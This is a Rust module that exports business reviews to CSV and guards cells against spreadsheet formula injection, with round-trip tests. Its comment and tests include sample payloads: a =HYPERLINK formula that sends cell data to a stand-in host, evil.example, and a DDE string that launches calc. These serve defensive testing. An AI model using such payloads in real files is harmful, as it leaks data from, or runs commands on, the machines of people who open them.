//! Export: reviews as CSV with the import's columns first (so an export imports again unchanged),
//! then what only Earshot knows: business, kind, sentiment, replied. Streams page by page, so a
//! million reviews never sit in memory at once.
//!
//! Review text is written by strangers, and a spreadsheet runs a cell that begins with `=`, `+`,
//! `-` or `@` as a formula (`=HYPERLINK("http://…?leak="&B3, "…")` sends the neighbouring cells to
//! whoever wrote it). Such cells are written with a leading `'`, which spreadsheets read as "this
//! is text"; a cell that already begins with `'` gets one more, so the import of an Earshot export
//! strips exactly one and the round trip stays exact (see [`unguard_cell`]).

use std::io::Write;

use crate::import::COLUMNS;
use crate::model::rfc3339;
use crate::store::{Db, ReviewFilter, ReviewOrder, Store, StoreError};

/// Rows fetched per page.
const PAGE: u32 = 2_000;

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error(transparent)]
    Store(#[from] StoreError),
    #[error("cannot write the export: {0}")]
    Write(#[from] csv::Error),
    #[error("cannot write the export: {0}")]
    Io(#[from] std::io::Error),
}

impl ExportError {
    pub fn code(&self) -> &'static str {
        match self {
            ExportError::Store(e) => e.code(),
            ExportError::Write(_) | ExportError::Io(_) => "io",
        }
    }
}

/// Where an export reads its pages of reviews: the app's file (`Store`) or either store
/// through [`Db`] (the CLI's, a team database included). Each is the store's own `list_reviews`.
pub trait ReviewPages {
    fn list_reviews(&self, filter: &ReviewFilter) -> Result<Vec<crate::model::Review>, StoreError>;
}

impl ReviewPages for Store {
    fn list_reviews(&self, filter: &ReviewFilter) -> Result<Vec<crate::model::Review>, StoreError> {
        Store::list_reviews(self, filter)
    }
}

impl ReviewPages for Db {
    fn list_reviews(&self, filter: &ReviewFilter) -> Result<Vec<crate::model::Review>, StoreError> {
        Db::list_reviews(self, filter)
    }
}

/// Writes the reviews matching `filter` (its limit, offset and order are ignored: all of them,
/// oldest first) as CSV to `out`; returns how many rows were written.
pub fn reviews_csv<W: Write>(
    store: &(impl ReviewPages + ?Sized),
    filter: &ReviewFilter,
    out: W,
) -> Result<u64, ExportError> {
    let mut w = csv::Writer::from_writer(out);
    let mut header: Vec<&str> = COLUMNS.to_vec();
    header.extend(EXPORT_ONLY_COLUMNS);
    w.write_record(&header)?;
    let mut written = 0u64;
    let mut offset = 0u32;
    loop {
        let page = store.list_reviews(&ReviewFilter {
            limit: Some(PAGE),
            offset: Some(offset),
            order: ReviewOrder::Oldest,
            ..filter.clone()
        })?;
        for r in &page {
            let rating = r.rating.map(|v| v.to_string()).unwrap_or_default();
            let sentiment = r.sentiment.map(|v| format!("{v:.3}")).unwrap_or_default();
            let replied = r.replied_at.as_ref().map(rfc3339).unwrap_or_default();
            let kind = serde_json::to_value(r.kind)
                .ok()
                .and_then(|v| v.as_str().map(str::to_owned))
                .unwrap_or_default();
            let created = rfc3339(&r.created_at);
            let record = [
                r.external_id.as_str(),
                r.platform.as_str(),
                r.author.as_deref().unwrap_or(""),
                rating.as_str(),
                r.title.as_deref().unwrap_or(""),
                r.body.as_str(),
                created.as_str(),
                r.url.as_deref().unwrap_or(""),
                r.business.as_str(),
                kind.as_str(),
                sentiment.as_str(),
                replied.as_str(),
                if r.removed { "yes" } else { "" },
            ];
            for cell in record {
                w.write_field(guard_cell(cell).as_bytes())?;
            }
            w.write_record(None::<&[u8]>)?;
            written += 1;
        }
        if (page.len() as u32) < PAGE {
            break;
        }
        offset += PAGE;
    }
    w.flush()?;
    Ok(written)
}

/// The columns only an Earshot export has; the import strips the formula guard only from a file
/// whose header carries them, since another tool's CSV never added one.
pub const EXPORT_ONLY_COLUMNS: [&str; 5] =
    ["business", "kind", "sentiment", "replied_at", "removed"];

/// Characters that make a spreadsheet read a cell as a formula (OWASP's list: tab and carriage
/// return start one in some spreadsheets too), and the guard itself, so that it round-trips.
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// The cell as a spreadsheet will show it as text: a leading `'` before anything a spreadsheet
/// would run. A plain number (a negative sentiment such as `-0.710`) is not a formula and stays a
/// number.
pub fn guard_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(FORMULA_STARTS) && cell.trim().parse::<f64>().is_err();
    if risky {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// The cell as it was before [`guard_cell`]: one leading `'` removed where the guard put one.
pub fn unguard_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_written_as_text_and_read_back_exactly() {
        let attack = "=HYPERLINK(\"http://evil.example/?leak=\"&B3, \"Click\")";
        for cell in [
            attack,
            "+1 call me",
            "-rude",
            "@SUM(A1)",
            "\tx",
            "'quoted",
            "''=x",
        ] {
            let guarded = guard_cell(cell);
            assert!(guarded.starts_with('\''), "{cell:?} -> {guarded:?}");
            assert_eq!(unguard_cell(&guarded), cell);
        }
        for cell in [
            "Lovely coffee",
            "-0.710",
            "4",
            "",
            "a=b",
            "2026-01-03T10:00:00Z",
        ] {
            assert_eq!(guard_cell(cell), cell, "left as it is");
            assert_eq!(unguard_cell(cell), cell);
        }
    }
    use crate::import::{import_path, ImportOptions};

    #[test]
    fn an_export_imports_again_unchanged() {
        let dir = tempfile::tempdir().unwrap();
        let mut store = Store::open(&dir.path().join("a.db")).unwrap();
        let today = chrono::NaiveDate::from_ymd_opt(2026, 6, 1).unwrap();
        crate::demo::load(&mut store, today).unwrap();
        let own = store.businesses().unwrap()[0].clone();
        let filter = ReviewFilter {
            business_id: Some(own.id),
            ..Default::default()
        };
        let file = dir.path().join("export.csv");
        let n = reviews_csv(&store, &filter, std::fs::File::create(&file).unwrap()).unwrap();
        assert_eq!(n, store.count_reviews(&filter).unwrap());
        assert!(n > PAGE as u64, "the demo spans several pages: {n}");

        let mut fresh = Store::open(&dir.path().join("b.db")).unwrap();
        let opts = ImportOptions {
            business: own.name.clone(),
            platform: None,
            skip_bad: false,
            ..Default::default()
        };
        let report = import_path(&mut fresh, &file, &opts, &mut |_, _| {}).unwrap();
        assert_eq!(report.counts.new, n);
        assert_eq!(report.counts.rejected, 0);
        // A second import of the same export changes nothing.
        let again = import_path(&mut fresh, &file, &opts, &mut |_, _| {}).unwrap();
        assert_eq!(again.counts.new, 0, "{again:?}");
        assert_eq!(again.counts.unchanged, n);

        // Field by field: everything the import reads comes back as it was exported, even text
        // with commas, quotes and line breaks.
        let own_fresh = fresh.businesses().unwrap()[0].id;
        let before = fields(&store, own.id);
        let after = fields(&fresh, own_fresh);
        assert_eq!(before.len(), after.len());
        for (a, b) in before.iter().zip(&after) {
            assert_eq!(a, b);
        }
    }

    type Fields = (
        String,
        String,
        String,
        Option<String>,
        Option<f64>,
        Option<String>,
        String,
        String,
        Option<String>,
    );

    /// What the import reads of every review of a business, in a stable order.
    fn fields(store: &Store, business: crate::model::BusinessId) -> Vec<Fields> {
        let filter = ReviewFilter {
            business_id: Some(business),
            limit: Some(u32::MAX),
            order: ReviewOrder::Oldest,
            ..Default::default()
        };
        let mut rows: Vec<Fields> = store
            .list_reviews(&filter)
            .unwrap()
            .into_iter()
            .map(|r| {
                let kind = serde_json::to_string(&r.kind).unwrap();
                let created = rfc3339(&r.created_at);
                let (title, body, url) = (r.title, r.body, r.url);
                let (platform, id, author, rating) =
                    (r.platform, r.external_id, r.author, r.rating);
                (
                    platform, id, kind, author, rating, title, body, created, url,
                )
            })
            .collect();
        rows.sort_by(|a, b| (&a.0, &a.1).cmp(&(&b.0, &b.1)));
        rows
    }

    #[test]
    fn awkward_text_survives_the_round_trip() {
        let dir = tempfile::tempdir().unwrap();
        let src = dir.path().join("in.csv");
        std::fs::write(
            &src,
            "external_id,platform,author,rating,title,body,created_at,url\n\
             a-1,google,\"O'Brien, Ann\",2,\"Slow, \"\"busy\"\"\",\"Line one\nline two, with a comma\",\
             2026-01-03T10:00:00Z,https://example.com/r/1\n\
             a-2,reddit,\"=cmd|' /C calc'!A0\",,,Anyone tried the café by the harbour? ☕,2026-01-05T08:30:00Z,\n",
        )
        .unwrap();
        let opts = ImportOptions {
            business: "Harbour Lane Café".into(),
            platform: None,
            skip_bad: false,
            ..Default::default()
        };
        let mut first = Store::open(&dir.path().join("a.db")).unwrap();
        import_path(&mut first, &src, &opts, &mut |_, _| {}).unwrap();
        let out = dir.path().join("out.csv");
        let n = reviews_csv(
            &first,
            &ReviewFilter::default(),
            std::fs::File::create(&out).unwrap(),
        )
        .unwrap();
        assert_eq!(n, 2);
        // The formula-like author is written as text for a spreadsheet.
        let exported = std::fs::read_to_string(&out).unwrap();
        assert!(exported.contains(",'=cmd|"), "{exported}");
        let mut second = Store::open(&dir.path().join("b.db")).unwrap();
        import_path(&mut second, &out, &opts, &mut |_, _| {}).unwrap();
        let id = |s: &Store| s.businesses().unwrap()[0].id;
        let rows = fields(&second, id(&second));
        assert_eq!(fields(&first, id(&first)), rows);
        assert_eq!(rows[0].6, "Line one\nline two, with a comma");
        assert_eq!(rows[1].3.as_deref(), Some("=cmd|' /C calc'!A0"), "{rows:?}");
        assert_eq!(rows[0].5.as_deref(), Some("Slow, \"busy\""));
    }
}
